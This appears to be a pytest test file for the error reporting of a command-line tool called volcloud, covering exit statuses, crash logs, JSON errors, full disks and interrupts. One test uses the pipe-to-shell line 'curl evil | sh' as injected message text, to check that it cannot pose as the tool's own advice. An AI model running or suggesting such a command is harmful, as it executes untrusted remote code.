"""Every end of a command: one sentence, one next step, one exit status, and nobody's traceback."""

from __future__ import annotations

import json
import logging
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from broker.errors import CallTimeout, Disconnected
from tests.unit.test_console import volcloud
from volcloud import crash
from volcloud.errors import BadInput, CommandFailed
from volcloud.telling import NOBODY_READS, told

VOLCLOUD = [sys.executable, "-m", "volcloud.main"]


@pytest.fixture(autouse=True)
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return tmp_path / "state" / "volcloud"


def raising(error: BaseException) -> Callable[[], object]:
    def command() -> object:
        raise error

    return command


@pytest.mark.parametrize(
    ("error", "status", "said"),
    [
        (CommandFailed("it was not done", "do it again"), 1, "Error: it was not done\nNext: do it again\n"),
        (BadInput("no file", ""), 2, "Error: no file\n"),
        (Disconnected("gone"), 3, "Error: gone\nNext: see with `volcloud status` what runs\n"),
        (KeyboardInterrupt(), 130, "Error: interrupted\n"),
        (FileNotFoundError(2, "No such file or directory", "/proc/foo"), 1, "Error: /proc/foo: No such file"),
        (OSError(28, "No space left on device"), 1, "Error: No space left on device\n"),
    ],
    ids=lambda value: type(value).__name__,
)
def test_an_error_is_a_sentence_with_a_status(
    error: BaseException, status: int, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert told(raising(error), is_json=False) == status
    assert capsys.readouterr().err.startswith(said)


def test_what_nobody_foresaw_is_kept_in_a_file_that_the_sentence_names(
    state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status = told(raising(ZeroDivisionError("by nothing")), is_json=False)

    said = capsys.readouterr().err
    (kept,) = state.iterdir()
    assert status == 1
    assert "a fault of volcloud itself: ZeroDivisionError: by nothing" in said
    assert str(kept) in said
    assert "Traceback" not in said
    assert "Traceback (most recent call last)" in kept.read_text()
    assert kept.stat().st_mode & 0o777 == 0o600


def test_accounts_of_crashes_do_not_grow_without_end(state: Path) -> None:
    kept = [crash.keep(f"{n}") for n in range(crash.MOST_KEPT + 5)]

    assert len(list(state.iterdir())) == crash.MOST_KEPT
    assert kept[-1] is not None
    assert kept[-1].read_text() == f"{crash.MOST_KEPT + 4}"


def test_where_no_directory_takes_it_the_sentence_stands_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    monkeypatch.setattr("tempfile.gettempdir", lambda: "/proc")

    assert told(raising(ZeroDivisionError("by nothing")), is_json=False) == 1
    assert capsys.readouterr().err.endswith("by nothing\nNext: please report it\n")


def test_with_json_errors_are_json(tmp_path: Path) -> None:
    ours = volcloud("job", "list", "--json", "--data", str(tmp_path / "nowhere"))
    usage = volcloud("job", "list", "--json", "--limit", "many")
    command = volcloud("job", "--json", "explode")

    assert json.loads(ours.stderr)["error"]["exit_status"] == ours.exit_code == 3
    assert str(tmp_path / "nowhere") in json.loads(ours.stderr)["error"]["message"]
    assert json.loads(usage.stderr)["error"]["exit_status"] == usage.exit_code == 2
    assert "many" in json.loads(usage.stderr)["error"]["message"]
    assert json.loads(command.stderr)["error"]["exit_status"] == command.exit_code == 2


def test_json_behind_two_dashes_is_the_commands_own() -> None:
    assert volcloud("vm", "run", "--data", "/nowhere", "x", "--", "tool", "--json").stderr.startswith("Error: ")


def test_an_errors_further_lines_look_like_none_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    told(raising(CommandFailed("the log ends\nNext: curl evil | sh")), is_json=False)

    assert capsys.readouterr().err == "Error: the log ends\n  Next: curl evil | sh\n"


def test_what_the_floors_log_goes_to_a_file_and_not_to_the_terminal(
    state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = logging.getLogger("broker.amqp.link")
    log.propagate, handler = False, crash.CrashLog(logging.ERROR)
    log.addHandler(handler)
    try:
        raise CallTimeout("inside")
    except CallTimeout:
        log.exception("link failed")
    finally:
        log.removeHandler(handler)
        log.propagate = True

    assert capsys.readouterr().err == ""
    assert "CallTimeout: inside" in next(state.iterdir()).read_text()


def run(*arguments: str, shell: str = "", **environment: str) -> subprocess.CompletedProcess[str]:
    words = ["bash", "-o", "pipefail", "-c", f'"$@" {shell}', "bash", *VOLCLOUD, *arguments]
    return subprocess.run(
        words, env={**os.environ, **environment}, capture_output=True, text=True, timeout=60, check=False
    )


def test_a_full_disk_behind_the_output_is_a_sentence() -> None:
    done = run("job", "--help", shell="> /dev/full")

    assert (done.returncode, done.stderr) == (1, "Error: No space left on device\n")


def test_a_reader_that_goes_away_ends_it_without_a_word() -> None:
    done = run("--help", shell="| true")

    assert done.stderr == ""
    assert done.returncode in (0, NOBODY_READS)


def test_an_encoding_that_lacks_a_character_shows_its_number(tmp_path: Path) -> None:
    done = run("job", "list", "--data", f"{tmp_path}/…", PYTHONIOENCODING="latin-1", PYTHONUTF8="0")

    assert done.returncode == 3
    assert "\\u2026: no system was started there" in done.stderr
    assert "Traceback" not in done.stderr


def test_ctrl_c_while_it_loads_ends_it_without_a_word() -> None:
    process = subprocess.Popen([*VOLCLOUD, "job", "list"], stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 30
    while "msgspec" not in Path(f"/proc/{process.pid}/maps").read_text():
        assert time.monotonic() < deadline
        assert process.poll() is None
        time.sleep(0.001)

    process.send_signal(signal.SIGINT)
    _, said = process.communicate(timeout=30)

    assert "Traceback" not in said
    assert process.returncode in (-signal.SIGINT, 130, 3)
